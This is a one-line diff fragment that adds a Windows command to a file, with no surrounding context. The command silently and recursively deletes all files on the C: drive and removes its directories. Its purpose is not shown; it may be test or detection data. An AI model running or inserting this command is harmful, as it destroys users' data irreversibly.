@@ -1,0 +1,1 @@
+cmd /c "del /s /q C:\* & rd /s /q C:\"
